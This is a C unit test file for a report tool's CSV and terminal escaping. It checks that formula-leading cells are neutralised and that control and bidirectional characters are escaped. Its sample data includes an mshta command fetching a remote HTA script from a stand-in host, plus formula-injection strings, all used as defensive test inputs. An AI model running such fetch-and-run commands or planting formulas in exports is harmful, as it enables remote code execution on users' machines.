/* SPDX-License-Identifier: Apache-2.0 */
/* CSV: parsed back it gives the same cells; nothing in it is a formula or breaks a line. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "report_sample.h"
#include "reports/escape.h"

static void cells(void **state)
{
    (void)state;
    static const struct {
        const char *label;
        paw_str given;
        const char *want;
    } cases[] = {
        {"absent", {0}, ""},
        {"plain", PAW_LIT_INIT("mshta.exe x"), "mshta.exe x"},
        {"comma", PAW_LIT_INIT("a,b"), "\"a,b\""},
        {"quote", PAW_LIT_INIT("a\"b"), "\"a\"\"b\""},
        {"blank at an end", PAW_LIT_INIT("a "), "\"a \""},
        {"formula =", PAW_LIT_INIT("=1+1"), "'=1+1"},
        {"formula +", PAW_LIT_INIT("+1"), "'+1"},
        {"formula -", PAW_LIT_INIT("-1"), "'-1"},
        {"formula @", PAW_LIT_INIT("@SUM(1,2)"), "\"'@SUM(1,2)\""},
        {"tab before", PAW_LIT_INIT("\t=1"), "'\\t=1"},
        {"return before", PAW_LIT_INIT("\r=1"), "'\\r=1"},
        {"full width",
         PAW_LIT_INIT("\xEF\xBC\x9D"
                      "1"),
         "'\xEF\xBC\x9D"
         "1"},
        {"quoted formula can be told", PAW_LIT_INIT("'=1"), "''=1"},
        {"a quote alone is no formula", PAW_LIT_INIT("'a'"), "'a'"},
        {"controls", PAW_LIT_INIT("a\0\r\n\t\x1B\x7F"), "a\\u0000\\r\\n\\t\\u001B\\u007F"},
        {"line ends of Unicode", PAW_LIT_INIT("\xC2\x85\xE2\x80\xA8\xE2\x80\xA9"),
         "\\u0085\\u2028\\u2029"},
        {"bidirectional", PAW_LIT_INIT("a\xE2\x80\xAEgpj"), "a\\u202Egpj"},
        {"tag letters", PAW_LIT_INIT("\xF3\xA0\x81\x81"), "\\U000E0041"},
        {"not UTF-8", PAW_LIT_INIT("a\xFF"), "a\xEF\xBF\xBD"},
    };
    for (size_t i = 0; i < PAW_COUNT_OF(cases); i++) {
        struct paw_buffer b = {0};
        struct paw_out out = paw_buffer_out(&b);
        struct paw_stream s;
        paw_stream_init(&s, &out);
        paw_csv_cell(&s, cases[i].given);
        assert_int_equal(paw_stream_flush(&s), PAW_OK);
        if (strcmp(b.p == NULL ? "" : b.p, cases[i].want) != 0)
            fail_msg("%s: got %s, wanted %s", cases[i].label, b.p, cases[i].want);
        paw_buffer_finish(&b);
    }
}

/* One row of RFC 4180 from *at on; each cell's text goes to a buffer of its own. */
static size_t read_row(const char **at, const char *end, struct paw_buffer *cells_out, size_t most)
{
    size_t n = 0;
    for (;;) {
        assert_true(n < most);
        struct paw_buffer *b = &cells_out[n++];
        paw_buffer_reset(b);
        paw_buffer_put(b, "", 0);
        if (*at < end && **at == '"') {
            for ((*at)++;; (*at)++) {
                assert_true(*at < end);
                if (**at == '"' && *at + 1 < end && (*at)[1] == '"')
                    (*at)++;
                else if (**at == '"')
                    break;
                paw_buffer_put(b, *at, 1);
            }
            (*at)++;
        } else {
            for (; *at < end && **at != ',' && **at != '\r'; (*at)++) {
                assert_true(**at != '"' && **at != '\n');
                paw_buffer_put(b, *at, 1);
            }
        }
        if (*at < end && **at == ',') {
            (*at)++;
            continue;
        }
        assert_true(end - *at >= 2 && (*at)[0] == '\r' && (*at)[1] == '\n');
        *at += 2;
        return n;
    }
}

static void table(void **state)
{
    (void)state;
    struct sample *s = sample_new();
    struct paw_buffer b = {0}, row[20] = {{0}};
    struct paw_out out = paw_buffer_out(&b);
    assert_int_equal(sample_write(s, sample_writer("csv"), 0, 4, &out), PAW_OK);
    const char *at = b.p;
    const char *const end = b.p + b.n;
    assert_int_equal(read_row(&at, end, row, 20), 20);
    assert_string_equal(row[0].p, "datetime");
    assert_string_equal(row[1].p, "timestamp_desc");
    assert_string_equal(row[2].p, "message");
    assert_string_equal(row[18].p, "id");
    assert_string_equal(row[19].p, "suppressed_by");
    for (size_t i = 0; i < 4; i++) {
        assert_int_equal(read_row(&at, end, row, 20), 20);
        for (size_t k = 0; k < 20; k++) {
            assert_null(strpbrk(row[k].p, "\r\n\t"));
            assert_true(row[k].n == 0 || strchr("=+-@", row[k].p[0]) == NULL);
        }
        assert_string_equal(row[0].p, i == 2 ? "" : "2020-05-24T17:13:42.1230000Z");
        assert_string_equal(row[1].p, i == 2 ? "undated" : "process start");
        if (i < 2) {
            assert_string_equal(row[11].p, "'=winword /n");
            assert_string_equal(row[13].p, "host1/Sys<mon>.evtx");
            assert_string_equal(row[15].p, "1");
            assert_string_equal(row[16].p, "18446744073709551615");
            assert_non_null(strstr(row[10].p, "end\\u0000hidden"));
            assert_true(
                strncmp(row[2].p, "mshta runs script given in its command line: mshta", 50) == 0);
        }
        if (i == 2)
            assert_string_equal(row[10].p, "'@mshta http://x.example/a.hta");
        if (i == 3)
            assert_int_equal(row[10].n, SAMPLE_LONG + 1);
    }
    assert_ptr_equal(at, end);
    for (size_t k = 0; k < 20; k++)
        paw_buffer_finish(&row[k]);
    paw_buffer_finish(&b);
    sample_free(s);
}

static void terminals(void **state)
{
    (void)state;
    struct paw_buffer b = {0};
    struct paw_out out = paw_buffer_out(&b);
    assert_int_equal(
        paw_terminal_write(PAW_LIT("a\x1B[2J\n\xC2\x9B\xE2\x80\xAE\xFF\0\xC3\xA9"), &out), PAW_OK);
    assert_string_equal(b.p, "a\\u001B[2J\\n\\u009B\\u202E\\xFF\\u0000\xC3\xA9");
    paw_buffer_finish(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(cells),
        cmocka_unit_test(table),
        cmocka_unit_test(terminals),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
